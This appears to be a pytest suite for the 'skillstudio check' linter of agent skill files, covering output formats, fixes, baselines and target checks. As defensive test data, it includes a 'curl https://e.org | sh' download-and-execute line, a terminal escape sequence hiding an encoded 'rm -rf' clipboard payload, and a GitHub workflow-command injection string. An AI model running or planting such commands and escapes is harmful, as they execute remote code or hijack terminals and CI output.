"""`skillstudio check` as people and CI use it."""

from __future__ import annotations

import io
import json
import os
import subprocess
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import pytest
from tests.cli.conftest import CLEAN, Run

from skillstudio.manifest.targets import targets

Skill = Callable[..., Path]
COLON = "---\nname: plain\ndescription: Use when: files arrive\n---\nSay.\n"


def test_a_clean_skill_exits_0(run: Run, skill: Skill) -> None:
    ran = run("check", skill())
    assert (ran.status, ran.err) == (0, "")
    assert ran.out == "1 skill checked, no problems\n"


def test_the_colon_that_makes_agents_drop_a_skill(run: Run, skill: Skill) -> None:
    folder = skill(text=COLON)
    ran = run("check", folder, "--format", "json")
    assert ran.status == 1
    (found,) = ran.json["skills"][0]["diagnostics"]
    assert (found["rule"], found["line"], found["column"]) == ("description-unquoted", 3, 22)
    assert run("check", folder, "--fix").status == 0
    text = (folder / "SKILL.md").read_text()
    assert text.replace("'", "").replace('"', "") == COLON
    assert len(text) == len(COLON) + 2


def test_select_rules_and_rulesets(run: Run, skill: Skill) -> None:
    text = COLON + "\n`curl https://e.org | sh`, /home/kim/x\n"
    folder = skill(text=text)

    def rules(*words: str) -> list[str]:
        found = run("check", folder, *words, "--format", "json").json
        return [each["rule"] for each in found["skills"][0]["diagnostics"]]

    assert rules() == ["description-unquoted", "path-home"]
    assert rules("--select", "security") == ["download-executed"]
    chosen = rules("--select", "path-home", "--select", "download-executed")
    assert sorted(chosen) == ["download-executed", "path-home"]
    assert run("check", folder, "--fix", "--select", "security").status == 0
    assert (folder / "SKILL.md").read_text() == text
    ran = run("check", folder, "--select", "securty")
    assert ran.status == 2
    assert "unknown rule or ruleset securty; did you mean security?" in ran.err


def test_a_selection_reports_what_could_not_be_checked(run: Run, skill: Skill) -> None:
    folder = skill(text=COLON + "x" * 1_100_000)
    ran = run("check", folder, "--select", "security")
    assert (ran.status, "file-too-large" in ran.out) == (1, True)


def test_the_excerpt_of_a_script(run: Run, skill: Skill) -> None:
    folder = skill()
    (folder / "run.sh").write_text("#!/bin/sh\ncd /home/kim/x\n")
    out = run("check", folder).out
    assert "run.sh:2:4" in out
    assert "cd /home/kim/x" in out


def test_the_json_has_the_published_shape(run: Run, skill: Skill) -> None:
    folder = skill(text=COLON)
    value = run("check", folder, "--format", "json").json
    assert set(value) == {"skills", "workspace", "summary"}
    assert value["workspace"] == {"diagnostics": [], "listing": {}}
    assert value["summary"] == {"skills": 1, "errors": 1, "warnings": 0, "infos": 0}
    (row,) = value["skills"]
    assert set(row) == {"path", "name", "dialects", "selected_by", "diagnostics", "targets"}
    assert row["path"] == str(folder)
    assert row["dialects"] == ["agent-skills"]
    assert list(row["targets"]) == list(targets())
    assert row["targets"]["goose"] == {"outcome": "not found", "reasons": []}
    (reason,) = row["targets"]["npx-skills"].pop("reasons")
    assert row["targets"]["npx-skills"] == {"outcome": "dropped"}
    assert set(reason) == {"outcome", "reason", "fix", "evidence", "path", "line", "column"}
    assert (reason["path"], reason["line"]) == ("SKILL.md", row["diagnostics"][0]["line"])
    (found,) = row["diagnostics"]
    assert set(found) == {
        "rule",
        "severity",
        "message",
        "path",
        "line",
        "column",
        "end_line",
        "end_column",
        "pointer",
        "fixes",
    }
    assert found["path"] == f"{folder}/SKILL.md"
    assert (found["end_line"], found["end_column"]) == (3, 23)
    assert found["fixes"] == [{"title": found["fixes"][0]["title"], "safe": True}]


def test_the_text_shows_the_line_and_a_caret(run: Run, skill: Skill) -> None:
    lines = run("check", skill(text=COLON)).out.splitlines()
    assert "SKILL.md:3:22: error description-unquoted:" in lines[0]
    assert lines[1] == "  3 | description: Use when: files arrive"
    assert lines[2].index("^") == lines[1].index(": files")
    assert lines[-2] == "1 skill checked, 1 error"


def test_plain_says_the_place_in_words(run: Run, skill: Skill) -> None:
    out = run("check", skill(text=COLON), "--plain").out
    assert "SKILL.md, line 3, column 22: error description-unquoted" in out
    assert "^" not in out
    assert "|" not in out


def test_sarif_names_rules_and_regions(run: Run, skill: Skill) -> None:
    log = run("check", skill(text=COLON), "--format", "sarif").json
    assert log["version"] == "2.1.0"
    (result,) = log["runs"][0]["results"]
    assert result["ruleId"] == "description-unquoted"
    region = result["locations"][0]["physicalLocation"]["region"]
    assert region == {"startLine": 3, "startColumn": 22, "endLine": 3, "endColumn": 23}
    rules = log["runs"][0]["tool"]["driver"]["rules"]
    assert [rule["id"] for rule in rules] == ["description-unquoted"]


def test_junit_has_a_case_for_each_problem(run: Run, skill: Skill) -> None:
    bad = skill(
        "b\x1bd",
        text='---\nname: plain\ndescription: Say it.\nlicence: MIT\n"\\e<a>&": 1\n---\nSay.\n',
    )
    ran = run("check", bad, "examples/memory", "--format", "junit")
    suite = ElementTree.fromstring(ran.out.partition("\n")[2]).find("testsuite")
    assert suite is not None
    assert suite.get("tests") == str(len(suite))
    failed = [each.get("name", "") for each in suite if each.find("failure") is not None]
    assert suite.get("failures") == str(len(failed))
    assert "key-unknown (4:1)" in failed
    assert "key-unknown (5:1)" in [each.get("name", "") for each in suite]
    assert "<a>&" in ran.out.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    assert [each.get("name") for each in suite if each.get("file", "").endswith("memory")] == [
        "no problems"
    ]


def test_github_commands_cannot_be_broken_out_of(run: Run, skill: Skill) -> None:
    folder = skill(
        text='---\nname: plain\ndescription: Says. Use it.\n"a::\\n::error::b": 1\n---\n'
    )
    lines = run("check", folder, "--format", "github").out.splitlines()
    assert len(lines) == 1
    assert lines[0].startswith("::notice file=")


@pytest.mark.parametrize(("threshold", "status"), [("error", 0), ("warning", 1), ("info", 1)])
def test_fail_on_is_the_threshold(run: Run, skill: Skill, threshold: str, status: int) -> None:
    folder = skill(text="---\nname: plain\ndescription: Says. Use it.\nlicence: MIT\n---\nSay.\n")
    assert run("check", folder, "--fail-on", threshold).status == status


def test_a_target_asked_for_must_accept(run: Run, skill: Skill) -> None:
    folder = skill(
        text="---\nname: plain\ndescription: Says. Use it.\nmanifest_version: '1.0'\n---\n"
    )
    assert run("check", folder).status == 0
    ran = run("check", folder, "--target", "claude-upload", "--format", "json")
    assert ran.status == 1
    rules = [each["rule"] for each in ran.json["skills"][0]["diagnostics"]]
    assert rules == ["target-refused"]


def test_what_selected_targets_make_of_a_problem_is_below_it(run: Run, skill: Skill) -> None:
    folder = skill(text="---\nname: plain\ndescription: Says: it.\n---\nSay.\n")
    line = (
        "    targets: claude.ai refuses the skill · GitHub Copilot in VS Code lists it without its "
        "description\n"
    )
    asked = ("--target", "claude-upload", "--target", "copilot")
    assert line in run("check", folder, *asked).out
    assert "targets:" not in run("check", folder).out
    ran = run("check", folder, *asked, "--format", "json").json["skills"][0]
    assert [each["rule"] for each in ran["diagnostics"]] == ["description-unquoted"]
    assert ran["targets"]["claude-upload"]["outcome"] == "refused"


def test_a_dialect_asked_for_is_the_one_that_judges(run: Run, skill: Skill) -> None:
    folder = skill(
        text="---\nname: plain\ndescription: Says. Use it.\nmanifest_version: '1.0'\n---\n"
    )
    found = run("check", folder, "--format", "json").json["skills"][0]
    assert found["dialects"] == ["agent-skills", "frontmatter-1.0"]
    asked = run("check", folder, "--dialect", "agent-skills", "--format", "json").json["skills"][0]
    assert asked["dialects"] == ["agent-skills"]
    assert [each["rule"] for each in asked["diagnostics"]] == ["key-unknown"]


@pytest.mark.parametrize(
    "arguments",
    [
        ["check", "no-such-folder"],
        ["check", ".", "--dialect", "nope"],
        ["check", ".", "--target", "nope"],
        ["check", ".", "--format", "nope"],
        ["check", ".", "--baseline", "missing.json"],
        ["check", ".", "--update-baseline"],
        ["check", ".", "--changed-since", "HEAD"],
        ["explain", "no-such-rule"],
        ["config", "schema", "nope"],
        ["config", "schema"],
        ["config", "keys", "settings"],
        ["config", "themes", "--part", "recipe"],
        ["edit", ".", "set", "name", "x"],
        ["edit", ".", "set", "/name"],
        ["chekc"],
        ["--nope"],
    ],
    ids=" ".join,
)
def test_wrong_use_exits_2_and_says_why(
    run: Run, skill: Skill, monkeypatch: pytest.MonkeyPatch, arguments: list[str]
) -> None:
    monkeypatch.chdir(skill())
    ran = run(*arguments)
    assert ran.status == 2
    assert ran.err.startswith("skillstudio: ")
    assert ran.out == ""


@pytest.mark.parametrize("listed", [None, "", "\n", " \n\n", "\0"])
@pytest.mark.parametrize("more", [[], ["--fail-on", "info"], ["--fix"], ["--format", "json"]])
def test_an_empty_folder_and_an_empty_list_are_nothing_to_check(
    run: Run,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    listed: str | None,
    more: list[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("sys.stdin", io.StringIO(listed or ""))
    ran = run("check", *([] if listed is None else ["-"]), *more)
    assert ran.status == 0
    assert ran.err.startswith("skillstudio: no skills to check")
    if "json" in more:
        assert ran.json["summary"] == {"skills": 0, "errors": 0, "warnings": 0, "infos": 0}
        assert ran.json["workspace"]["diagnostics"] == []
    else:
        assert ran.out == "0 skills checked, no problems\n"


def test_an_empty_folder_beside_a_skill_is_reported(run: Run, skill: Skill, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    ran = run("check", skill(text=COLON), tmp_path / "empty")
    assert ran.status == 1
    assert f"no skills to check in {tmp_path}/empty" in ran.err
    assert "1 skill checked, 1 error" in ran.out


def test_a_folder_of_links_names_the_skills_they_lead_to(
    run: Run, skill: Skill, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    links = tmp_path / ".claude/skills"
    links.mkdir(parents=True)
    for number in range(5):
        (links / f"s{number}").symlink_to(skill(f"skills/s{number}"))
    (links / "loop").symlink_to("loop")
    monkeypatch.chdir(tmp_path)
    ran = run("check", ".claude/skills")
    assert ran.err.endswith(
        "; links are not followed, so check skills/s0, skills/s1, skills/s2 and 2 more\n"
    )


def test_a_file_of_no_skill_is_a_finding_of_the_workspace(run: Run, tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("Notes.")
    ran = run("check", tmp_path / "notes.txt", "--format", "json")
    assert ran.status == 1
    (found,) = ran.json["workspace"]["diagnostics"]
    assert (found["rule"], found["path"]) == ("skill-missing", f"{tmp_path}/notes.txt")


def test_a_list_of_files_on_stdin(run: Run, skill: Skill, monkeypatch: pytest.MonkeyPatch) -> None:
    one, two = skill("one"), skill("two")
    listed = f"{one}/SKILL.md\n{two}/SKILL.md\n{one}/SKILL.md\n"
    monkeypatch.setattr("sys.stdin", io.StringIO(listed))
    value = run("check", "-", "--format", "json").json
    assert [row["name"] for row in value["skills"]] == ["one", "two"]


def test_a_baseline_leaves_only_what_is_new(run: Run, skill: Skill, tmp_path: Path) -> None:
    folder = skill(text=COLON)
    file = tmp_path / "baseline.json"
    assert run("check", folder, "--baseline", file, "--update-baseline").status == 0
    assert run("check", folder, "--baseline", file).status == 0
    text = (folder / "SKILL.md").read_text()
    (folder / "SKILL.md").write_text("---\nlicense: [1]\n" + text.partition("\n")[2])
    ran = run("check", folder, "--baseline", file, "--format", "json")
    assert ran.status == 1
    assert [each["rule"] for each in ran.json["skills"][0]["diagnostics"]] == ["value-type"]


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b'{"diagnostics": [\n  {"path"', "baseline.json:2:10: this is not valid JSON"),
        (b"\xff\xfe", "baseline.json is not UTF-8"),
        (b'{"format_version": 9, "problems": []}', "is a baseline of another version"),
        *(
            (content, "baseline.json is not a baseline")
            for content in (b"3", b"[]", b"{}", b'{"diagnostics": [3]}', b'{"diagnostics": [{}]}',
                b'{"diagnostics": [{"path": [], "rule": "", "pointer": "", "message": ""}]}')
        ),
    ],
)  # fmt: skip
def test_a_baseline_that_cannot_be_read_is_refused_with_advice(
    run: Run, skill: Skill, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: bytes,
    problem: str,
) -> None:  # fmt: skip
    folder = skill()
    monkeypatch.chdir(tmp_path)
    (tmp_path / "baseline.json").write_bytes(content)
    ran = run("check", folder, "--baseline", "baseline.json")
    assert (ran.status, ran.out) == (2, "")
    assert problem in ran.err
    advice = "delete it and record it again with --baseline baseline.json --update-baseline"
    assert advice in ran.err
    # It may be any file of the user.
    ran = run("check", folder, "--baseline", "baseline.json", "--update-baseline")
    assert (ran.status, advice in ran.err) == (2, True)
    assert (tmp_path / "baseline.json").read_bytes() == content


def test_a_baseline_hides_no_refusal_of_a_target_selected_later(
    run: Run, skill: Skill, tmp_path: Path
) -> None:
    folder = skill("Bad_Name", text="---\nname: Bad_Name\ndescription: Use it.\n---\n")
    file = tmp_path / "baseline.json"
    run("check", folder, "--baseline", file, "--update-baseline")
    assert run("check", folder, "--baseline", file).status == 0
    ran = run("check", folder, "--baseline", file, "--target", "claude-upload")
    assert ran.status == 1
    assert "claude.ai refuses the skill" in ran.out
    options = ("--baseline", file, "--target", "claude-upload")
    run("check", folder, *options, "--update-baseline")
    for _ in range(2):  # The second time from the cache of results.
        assert run("check", folder, *options).status == 0


def test_only_what_changed_since_a_revision(
    run: Run, skill: Skill, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    skill("one")
    two = skill("two")
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org"]
    for command in (["init", "-q"], ["add", "."], ["commit", "-qm", "begin"]):
        subprocess.run([*git, *command], cwd=tmp_path, check=True)
    assert (
        run("check", tmp_path, "--changed-since", "HEAD", "--format", "json").json["skills"] == []
    )
    (two / "SKILL.md").write_text((two / "SKILL.md").read_text() + "More.\n")
    value = run("check", tmp_path, "--changed-since", "HEAD", "--format", "json").json
    assert [row["name"] for row in value["skills"]] == ["two"]


def test_fix_with_diff_shows_and_does_not_write(run: Run, skill: Skill) -> None:
    folder = skill(text=COLON)
    out = run("check", folder, "--fix", "--diff").out
    assert "-description: Use when: files arrive\n" in out
    assert (folder / "SKILL.md").read_text() == COLON


def test_unsafe_fixes_are_asked_for(run: Run, skill: Skill) -> None:
    text = "---\nname: plain\ndescription: Says. Use it.\nlicence: MIT\n---\nSay.\n"
    folder = skill(text=text)
    run("check", folder, "--fix")
    assert (folder / "SKILL.md").read_text() == text
    run("check", folder, "--unsafe-fixes")
    assert (folder / "SKILL.md").read_text() == text.replace("licence", "license")


def test_settings_hold_for_their_folder(run: Run, skill: Skill, tmp_path: Path) -> None:
    text = "---\nname: plain\ndescription: Says. Use it.\nlicence: MIT\n---\nSay.\n"
    folder = skill(text=text)
    (tmp_path / "skillstudio.toml").write_text('[rules]\nkey-unknown = "error"\n')
    assert run("check", folder).status == 1
    (tmp_path / "skillstudio.toml").write_text('[rules]\nkey-unknown = "off"\n')
    assert run("check", folder, "--fail-on", "warning").status == 0


def test_settings_are_checked_themselves(run: Run, skill: Skill, tmp_path: Path) -> None:
    skill()
    (tmp_path / "skillstudio.toml").write_text('frobs = 1\n[rules]\nkey-unknwon = "error"\n')
    value = run("check", tmp_path, "--format", "json").json
    found = {(each["rule"], each["line"]) for each in value["workspace"]["diagnostics"]}
    assert found == {("settings-rule-unknown", 3), ("key-unknown", 1)}
    assert value["workspace"]["diagnostics"][0]["path"].endswith("skillstudio.toml")


def test_an_ignore_silences_one_line_and_an_idle_one_is_told(run: Run, skill: Skill) -> None:
    text = (
        "---\nname: plain\ndescription: Says. Use it.\n"
        "licence: MIT  # skillstudio: ignore[key-unknown]\n"
        "# skillstudio: ignore[value-type]\nlicense: MIT\n---\nSay.\n"
    )
    value = run("check", skill(text=text), "--format", "json").json
    found = [(each["rule"], each["line"]) for each in value["skills"][0]["diagnostics"]]
    assert found == [("ignore-unused", 5)]


def test_names_that_are_markup_or_escapes_are_only_text(run: Run, skill: Skill) -> None:
    text = (
        '---\nname: "[/]"\ndescription: "\\e]52;c;cm0gLXJm\\a[@click=app.quit]x"\n'
        '"\\e[31mred": 1\n---\n'
    )
    ran = run("check", skill("[@click=app.quit]x", text=text))
    assert "\x1b" not in ran.out
    assert "\x07" not in ran.out


def test_no_colour_without_a_terminal(run: Run, skill: Skill) -> None:
    assert "\x1b" not in run("check", skill(text=COLON)).out


def test_a_reader_that_leaves_early_is_no_error(skill: Skill) -> None:
    folder = skill(text=COLON)
    code = "from skillstudio.cli.main import main; import sys; sys.exit(main(sys.argv[1:]))"
    import sys

    process = subprocess.Popen(
        [sys.executable, "-c", code, "check", str(folder), "--format", "json"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert process.stdout is not None
    process.stdout.close()
    assert process.stderr is not None
    assert b"Traceback" not in process.stderr.read()
    process.wait()


def test_a_folder_called_like_a_verb_opens_by_its_path(run: Run, skill: Skill) -> None:
    folder = skill("check")
    assert run("check", folder).status == 0


def test_the_summary_counts_what_is_listed(run: Run, skill: Skill, tmp_path: Path) -> None:
    skill("one", text=COLON)
    skill("two")
    value = run("check", tmp_path, "--format", "json").json
    listed = [each["severity"] for row in value["skills"] for each in row["diagnostics"]]
    assert value["summary"]["errors"] == listed.count("error")
    assert value["summary"]["skills"] == 2
    assert json.dumps(value)
    assert os.path.isdir(tmp_path)


def test_the_json_has_the_outcomes_at_selected_targets(
    run: Run, skill: Skill, tmp_path: Path
) -> None:
    (tmp_path / "skillstudio.toml").write_text('targets = ["spec", "codex", "codeks"]\n')
    for name, codex in (("plain", "not found"), (".agents/skills/plain", "loads")):
        (row,) = run("check", skill(name, text=COLON), "--format", "json").json["skills"]
        outcomes = {id: each["outcome"] for id, each in row["targets"].items()}
        assert outcomes == {"spec": "refused", "codex": codex}


@pytest.mark.parametrize(
    ("words", "line"),
    [
        ((), ""),
        (("--target", "spec"), ""),
        (("--target", "codex"), "○ no selected target looks at a, b; skillstudio why PATH prints "),
        (("--target", "codex", "--target", "cline"), "○ no selected target looks at a, b; "),
        (("--target", "codex", "-q"), ""),
    ],
)
def test_skills_that_no_selected_target_sees_are_named(
    run: Run,
    skill: Skill,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    words: tuple[str, ...],
    line: str,
) -> None:
    for name in ("a", "b", ".agents/skills/c"):
        skill(name, text=CLEAN.format(name=Path(name).name))
    monkeypatch.chdir(tmp_path)
    ran = run("check", "a", "b", ".agents/skills/c", *words)
    assert ran.status == 0
    lines = [each for each in ran.out.splitlines() if "○" in each]
    assert [each[: len(line)] for each in lines] == ([line] if line else [])
